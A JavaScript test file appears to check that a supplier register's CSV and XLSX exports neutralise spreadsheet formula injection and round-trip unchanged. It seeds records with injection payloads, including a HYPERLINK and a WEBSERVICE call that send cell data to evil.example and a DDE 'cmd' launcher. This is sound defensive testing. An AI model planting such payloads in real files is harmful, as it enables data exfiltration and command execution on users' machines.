import { randomUUID } from 'node:crypto';
import { httpBar } from '../lib/http-bar.mjs';
import { hostileLists } from '../lib/hostile-lists.mjs';
import { download, importFile, uploadFile } from '../lib/import-files.mjs';
import { computing, csvRecords, liveCells } from '../lib/opened-exports.mjs';

/** Starts that make a spreadsheet program compute, dial out or run something (OWASP CSV injection; ASVS 1.2.10). */
const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠', "'=", "''+", '=-+@'];
const bodies = ['HYPERLINK("http://evil.example/?"&A1,"bấm")', "cmd|' /C calc'!A0", '1+1', 'SUM(A1:A9)', 'WEBSERVICE("http://evil.example")', ' phẩy, chấm; "nháy"'];

export default httpBar({
  id: 'w4',
  promise: 'No cell of any list that leaves as a file computes in a spreadsheet program, and what is exported comes in again as it was',
  naive: [
    [["var neutralCell = (text) => computes.test(text) ? `'${text}` : text;", 'var neutralCell = (text) => text;']],
    [["var neutralCell = (text) => computes.test(text) ? `'${text}` : text;", 'var neutralCell = (text) => /^[=]/.test(text) ? `\'${text}` : text;']],
    [['t="inlineStr"><is><t xml:space="preserve">${xmlText(text)}</t></is></c>`;', '${text.startsWith("=") ? "><f>" + xmlText(text.slice(1)) + "</f></c>" : ` t="inlineStr"><is><t xml:space="preserve">${xmlText(text)}</t></is></c>`}`;']],
    [['quotePrefix=\\"1\\"', '']], // XLSX alone
    [['column.kind === "number" ? text(column, row, language) : neutralCell(', 'column.kind === "number" || column.id === "note" ? text(column, row, language) : neutralCell(']], // CSV alone, a column that the register has not
    [['id: "requestedBy",', 'id: "requestedBy", kind: "number",']], // one list among them, CSV and XLSX
    [['charCodeAt(0) === 39 && marked.test(text) ? text.slice(1) : text', 'charCodeAt(0) === 39 && marked.test(text) ? text : text']],
  ],
  async check(product, { log, isShort }) {
    const { database, person } = product;
    const office = await person('office');
    const mark = randomUUID().slice(0, 8);
    const firms = starts.flatMap((start, row) => bodies.map((body, at) => ({ name: `Công ty Đo ${mark} ${row} ${at}`, shortName: `${start}${at}`, address: `${start}A${row}, Hà Nội`, intro: `${start}${body}` })));
    await importFile(product, office, JSON.stringify(firms), 'w4.json');
    const stored = async () => (await database.query('SELECT json_agg(json_build_array(name_vi, short_name, registered_address, intro, version) ORDER BY name_vi) AS firms FROM suppliers WHERE name_vi LIKE $1', [`%${mark}%`])).rows[0].firms;
    const before = await stored();
    const wrong = [];
    if (before.length !== firms.length || firms.some(({ intro }) => !before.some((row) => row[3] === intro))) wrong.push('the texts are not stored as they are');
    const path = (format) => `/api/v1/exports/register?q=${encodeURIComponent(`Đo ${mark}`)}&format=${format}`;
    const files = Object.fromEntries(await Promise.all(['csv', 'xlsx', 'json'].map(async (format) => [format, await download(product, office, path(format))])));
    const records = csvRecords(files.csv.toString('utf8').replace(/^\ufeff/, ''));
    for (const cell of records.flat()) if (computing.test(cell)) wrong.push(`CSV computes: ${cell.slice(0, 60)}`);
    for (const cell of liveCells(files.xlsx)) wrong.push(`XLSX: ${cell}`);
    if (records.length !== firms.length + 1) wrong.push(`CSV has ${records.length} records`);
    for (const [format, bytes] of Object.entries(files)) {
      const { status, body } = await uploadFile(product, office, bytes, `lai.${format}`);
      if (status !== 201 || body.counts.unchanged !== firms.length) wrong.push(`${format} comes in as ${status} ${JSON.stringify(body.counts ?? body.code)}`);
    }
    if (JSON.stringify(await stored()) !== JSON.stringify(before)) wrong.push('the round trip changed something');
    const lists = await hostileLists(product, wrong, isShort);
    for (const line of wrong.slice(0, 20)) log(line);
    return { pass: wrong.length === 0, figures: { firms: firms.length, cells: records.flat().length, ...lists, wrong: wrong.length } };
  },
});
